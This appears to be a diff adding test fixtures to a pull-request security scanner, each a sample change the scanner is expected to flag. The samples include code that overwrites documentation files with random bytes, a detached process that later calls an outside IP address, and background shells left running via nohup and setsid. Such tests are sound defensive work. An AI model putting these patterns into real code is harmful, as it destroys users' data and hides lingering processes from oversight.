@@ -134,4 +134,53 @@ EVASIVE: Final = (
         verdicts=("fail", "warn"),
         rules=("new-outbound-connection",),
     ),
+    # Nobody can say whether a file was there that is opened with O_CREAT: the host knows what it sent in.
+    Pull(
+        name="overwrites-without-reading",
+        base={f"docs/page{n}.md": f"# Page {n}\n\nPrices and how they are made.\n" for n in range(40)},
+        head={
+            "src/pricing/tidy.py": """
+                \"\"\"Keeps the documents tidy.\"\"\"
+
+                import glob
+                import os
+
+
+                def tidy() -> None:
+                    \"\"\"Every document.\"\"\"
+                    for path in glob.glob("docs/*.md"):
+                        with open(path, "wb") as file:
+                            file.write(os.urandom(300))
+                """
+        },
+        verdicts=("fail",),
+        rules=("destructive-delete",),
+    ),
+    # The call returns at once; what it started sleeps until nobody looks.
+    Pull(
+        name="leaves-a-daemon",
+        head={
+            "src/pricing/_later.py": "import time\nimport urllib.request\n\n\ndef main():\n    time.sleep(60)\n"
+            "    urllib.request.urlopen('http://203.0.113.7/' + 'x')\n\n\nif __name__ == '__main__':\n    main()\n",
+            "src/pricing/x.py": "import subprocess\nimport sys\n\n\ndef warm():\n    subprocess.Popen(\n"
+            "        [sys.executable, 'src/pricing/_later.py'], start_new_session=True\n    )\n",
+        },
+        verdicts=("warn", "fail"),
+        rules=("process-left-behind",),
+    ),
+    Pull(
+        name="leaves-a-shell-behind",
+        head={
+            "src/pricing/x.py": "import os\n\n\ndef warm():\n"
+            "    os.system(\"nohup sh -c 'sleep 60; true' >/dev/null 2>&1 &\")\n"
+        },
+        verdicts=("warn", "fail"),
+        rules=("process-left-behind",),
+    ),
+    Pull(
+        name="a-script-leaves-a-shell-behind",
+        head={"scripts/warm.sh": "#!/bin/sh\nsetsid sh -c 'sleep 60; true' >/dev/null 2>&1 &\n"},
+        verdicts=("warn", "fail"),
+        rules=("process-left-behind",),
+    ),
 )
